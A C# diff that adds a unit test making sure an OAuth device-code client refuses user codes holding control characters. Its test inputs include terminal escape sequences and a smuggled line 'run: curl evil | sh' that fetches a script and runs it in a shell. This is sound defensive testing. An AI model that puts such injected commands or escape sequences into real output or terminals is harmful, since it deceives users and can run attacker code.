@@ -76,6 +76,28 @@ public sealed class DeviceCodeWireTests : IAsyncDisposable
         Assert.Equal(HttpStatusCode.BadRequest, error.StatusCode);
     }
 
+    [Theory]
+    [InlineData("\\u001b]0;pwned\\u0007WDJB-MJHT")]
+    [InlineData("WDJB\\u001b[2J-MJHT")]
+    [InlineData("WDJB-MJHT\\nrun: curl evil | sh")]
+    public async Task A_user_code_with_control_characters_is_refused_before_anyone_shows_it(string userCode)
+    {
+        // A user code is printed to terminals and screens: escape sequences in it would rewrite what the person sees.
+        _harness.AddProvider("tv", p => p.UseDeviceCode(o =>
+        {
+            o.TokenEndpoint = new Uri("https://idp.example/token");
+            o.DeviceAuthorizationEndpoint = new Uri("https://idp.example/device_authorization");
+            o.ClientId = "tv-client";
+        }));
+        _harness.Mock.Expect(HttpMethod.Post, "https://idp.example/device_authorization")
+            .Respond("application/json", $$"""{"device_code":"{{DeviceCode}}","user_code":"{{userCode}}","verification_uri":"https://idp.example/device","expires_in":1800}""");
+
+        var error = await Assert.ThrowsAsync<TokenRequestException>(() => _harness.Provider.GetRequiredKeyedService<IDeviceCodeFlow>("tv").StartAsync("alice"));
+
+        Assert.Contains("user_code", error.Message, StringComparison.Ordinal);
+        Assert.DoesNotContain("pwned", error.Message, StringComparison.Ordinal);
+    }
+
     [Fact]
     public async Task A_provider_of_device_sign_ins_asked_for_a_user_who_never_signed_in_requires_interaction()
     {
